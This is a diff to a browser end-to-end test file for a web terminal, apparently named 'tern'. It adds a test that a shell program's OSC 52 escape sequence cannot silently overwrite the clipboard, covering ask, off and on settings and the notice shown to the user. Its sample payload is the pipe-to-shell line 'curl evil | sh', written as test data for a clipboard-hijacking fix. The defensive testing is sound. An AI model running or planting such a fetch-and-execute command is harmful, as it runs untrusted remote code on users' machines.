@@ -53,7 +53,7 @@ async function bytesOfKeys(p, n, press) {
   return (await screen(p)).split('\n').find((l) => /^\s+\S/.test(l) && !/od -An/.test(l))?.trim() ?? '';
 }
 
-test('a mouse selection is on the clipboard; Ctrl+Shift+V types the clipboard; OSC 52 copies', chromiumOnly, async () => {
+test('a mouse selection is on the clipboard; Ctrl+Shift+V types the clipboard', chromiumOnly, async () => {
   const { page } = fx;
   await typeLine(page, 'clear; echo select-me-$((6*7))');
   await until(async () => /^select-me-42$/m.test(await screen(page)), { what: 'the text to select' });
@@ -73,14 +73,86 @@ test('a mouse selection is on the clipboard; Ctrl+Shift+V types the clipboard; O
   await page.keyboard.press('Control+Shift+V');
   await page.keyboard.press('Enter');
   await until(async () => /^pasted-by-keys-42$/m.test(await screen(page)), { what: 'Ctrl+Shift+V to paste' });
+});
 
-  await page.evaluate(() => navigator.clipboard.writeText('nothing yet'));
-  await typeLine(page, `printf '\\e]52;c;%s\\a' "$(printf hello | base64)"`);
-  await until(async () => (await clipboardText(page)) === 'hello', { what: 'OSC 52 to copy hello' });
+/// A program in the shell writes the clipboard (OSC 52) with `text`, then prints a marker; resolves
+/// once the marker is on the screen (the OSC 52 came before it in the same output).
+async function programCopies(p, text) {
+  await typeLine(p, `clear; printf '\\e]52;c;%s\\a' "$(printf '${text}' | base64)"; echo osc52-$((40+2))`);
+  await until(async () => /^osc52-42$/m.test(await screen(p)), { what: 'the program to print OSC 52' });
+  // The page's clipboard write (old code) is asynchronous: give it time to land.
+  await sleep(700);
+}
+
+const offerShown = (p) => p.evaluate(() => !document.getElementById('copy-offer').hidden);
+
+// Finding 7 of issue 32: `cat` of a file could plant `curl evil | sh` on the clipboard while the
+// tab has focus. With the default setting ("ask") the clipboard stays as it was until the person
+// clicks Copy on a notice that shows the text; "off" never writes and says a program tried; "on"
+// writes and says so every time. (On the old code the first assertion fails: it wrote silently.)
+test('a program cannot replace the clipboard silently: ask (the default), off, on', chromiumOnly, async () => {
+  const { page } = fx;
+  await page.evaluate(() => navigator.clipboard.writeText('the person copied this'));
+  await programCopies(page, 'curl evil | sh');
+  assert.equal(await clipboardText(page), 'the person copied this', 'the program replaced the clipboard without asking');
+  assert.equal(await page.evaluate(() => window.tern.settings.get().remoteCopy), 'ask', 'ask is the default');
+  await until(() => offerShown(page), { what: 'the notice asking to copy' });
+  assert.equal(await page.textContent('#copy-offer-text'), 'The program wants to copy 14 characters:');
+  assert.equal(await page.textContent('#copy-offer-preview'), 'curl evil | sh');
+  assert.equal(await page.isVisible('#copy-offer-preview'), true);
+  assert.equal(await page.textContent('#copy-offer-button'), 'Copy');
+  assert.equal(await page.textContent('#copy-offer-close'), 'Dismiss');
+  await screenshotsOfState(page, 'page-osc52-ask');
+  await page.click('#copy-offer-button');
+  await until(async () => (await clipboardText(page)) === 'curl evil | sh', { what: 'Copy to write the clipboard' });
+  assert.equal(await offerShown(page), false);
+
+  // Dismiss: nothing written.
+  await page.evaluate(() => navigator.clipboard.writeText('kept'));
+  await programCopies(page, 'dismissed');
+  await until(() => offerShown(page), { what: 'the notice asking again' });
+  await page.click('#copy-offer-close');
+  await sleep(300);
+  assert.equal(await clipboardText(page), 'kept');
+
+  // Off: never written; the notice says a program tried, and how long its text was, nothing more.
+  await page.evaluate(() => window.tern.settings.set({ remoteCopy: 'off' }));
+  await programCopies(page, 'secret-ish text');
+  assert.equal(await clipboardText(page), 'kept', 'written with the setting off');
+  await until(() => offerShown(page), { what: 'the notice that a program tried' });
+  assert.equal(await page.textContent('#copy-offer-text'),
+    'A program tried to copy 15 characters to the clipboard; the settings do not allow it.');
+  assert.equal(await page.isVisible('#copy-offer-button'), false);
+  assert.doesNotMatch(await page.evaluate(() => document.getElementById('copy-offer').textContent), /secret-ish/);
+  await screenshotsOfState(page, 'page-osc52-off');
+  await page.click('#copy-offer-close');
+
+  // On: written, and a notice says so.
+  await page.evaluate(() => window.tern.settings.set({ remoteCopy: 'on' }));
+  await programCopies(page, 'allowed');
+  await until(async () => (await clipboardText(page)) === 'allowed', { what: 'OSC 52 to write with the setting on' });
+  await until(() => offerShown(page), { what: 'the notice that a program copied' });
+  assert.equal(await page.textContent('#copy-offer-text'), 'A program copied 7 characters to the clipboard.');
+  await screenshotsOfState(page, 'page-osc52-on');
+  await page.click('#copy-offer-close');
+
+  // The setting in the panel, kept across a reload like the others.
+  await page.click('#gear');
+  await until(() => page.evaluate(() => window.tern.settings.isOpen()), { what: 'the settings panel' });
+  assert.equal(await page.evaluate(() => document.querySelector('#settings-form [name=remoteCopy]').value), 'on');
+  await page.evaluate(() => {
+    const el = document.querySelector('#settings-form [name=remoteCopy]');
+    el.value = 'ask';
+    el.dispatchEvent(new Event('change', { bubbles: true }));
+  });
+  await screenshotsOfState(page, 'page-settings-clipboard');
+  assert.equal(await page.evaluate(() => JSON.parse(localStorage.getItem('tern.settings')).remoteCopy), 'ask');
+  await page.keyboard.press('Escape');
 });
 
 test('OSC 52 the browser refuses offers a Copy button', chromiumOnly, async () => {
   const { page } = fx;
+  await page.evaluate(() => window.tern.settings.set({ remoteCopy: 'on' }));
   // A browser refuses a clipboard write from a page without focus (Chromium: NotAllowedError,
   // "Document is not focused"). Headless pages always have focus, so the refusal is the
   // browser's answer played by the page's own clipboard object, once.
@@ -98,6 +170,7 @@ test('OSC 52 the browser refuses offers a Copy button', chromiumOnly, async () =
   await page.click('#copy-offer-button');
   await until(async () => (await clipboardText(page)) === 'offered', { what: 'the Copy button to copy' });
   assert.equal(await page.evaluate(() => document.getElementById('copy-offer').hidden), true);
+  await page.evaluate(() => window.tern.settings.set({ remoteCopy: 'ask' }));
 });
 
 test('a printed URL is a link that opens a new page', chromiumOnly, async () => {
